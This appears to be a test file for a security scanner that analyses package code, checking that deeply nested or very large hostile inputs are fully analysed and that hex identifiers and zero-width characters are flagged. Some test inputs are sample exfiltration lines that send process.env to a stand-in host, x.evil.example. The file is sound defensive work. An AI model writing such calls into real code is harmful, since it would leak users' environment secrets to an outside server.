// Package code is hostile: every walk over it is iterative or bounded. Each
// case here would blow the stack (or run past the test timeout) without those
// bounds; their time, at n and 2n, is in npm run bench:hostile.
import { collectFacts } from '../../src/analysis/facts.js'

function analysed(code: string): ReturnType<typeof collectFacts> {
  return collectFacts('hostile.js', code)
}

test.each([
  [
    'nested calls',
    'f('.repeat(1500) + 'process.env' + ')'.repeat(1500) + "\nfetch('https://x.evil.example')",
    'https://x.evil.example',
  ],
  [
    'nested functions',
    '(() => {'.repeat(1000) +
      "fetch('https://x.evil.example', { body: process.env })" +
      '})'.repeat(1000),
    'https://x.evil.example',
  ],
  [
    'a wide object',
    'const o = {' + Array.from({ length: 50_000 }, (_, i) => `k${i}: v${i}`).join(',') + '}',
    null,
  ],
  [
    'many mutations',
    Array.from({ length: 50_000 }, (_, i) => `a${i % 50}.push(a${(i + 1) % 50})`).join('\n'),
    null,
  ],
  [
    'many sinks',
    Array.from(
      { length: 20_000 },
      (_, i) => `fetch('https://h${i}.example', { body: x${i} })`,
    ).join('\n'),
    'https://h19999.example',
  ],
  ['a long member chain', 'a' + '.b'.repeat(20_000) + '(process.env)', null],
])('analyses %s to the end', (_name, code, last) => {
  const facts = analysed(code)
  expect(facts.incomplete).toBeUndefined()
  if (last) expect(facts.strings.map((s) => s.value)).toContain(last)
})

test('still reports what an unparsable file hides', () => {
  const names = Array.from({ length: 10 }, (_, i) => `_0x${(0xabc0 + i).toString(16)}`).join(',')
  const facts = analysed(`var ${names} = 'admin\u200b' ))) {{`)
  expect(facts.parsed).toBe(false)
  expect(facts.obfuscation.map((o) => o.kind)).toEqual(['hex-identifiers'])
  expect(facts.hiddenUnicode.map((h) => h.kind)).toEqual(['zero-width'])
})
